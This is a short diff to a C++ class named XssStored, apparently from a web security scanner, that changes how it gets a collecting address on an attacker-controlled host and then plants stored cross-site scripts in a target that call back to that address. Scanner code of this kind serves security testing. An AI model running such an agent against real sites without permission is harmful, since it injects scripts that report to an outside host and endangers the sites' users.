@@ -13,8 +13,7 @@ class XssStored final : public Agent {
     void run(Target& target) override {
         OwnHost* evil = foreign_host(target);
         if (evil == nullptr || target.victim() == nullptr) return;
-        evil->answer(evil->folder() + "c", {.status = 204});
-        std::string const address = address_on(*evil, "c");
+        std::string const address = collecting_address(*evil);
         StoredText text(target);
         if (!text.has_place()) return;
         text.leave_all(script_carriers(quiet_script(target, address)));
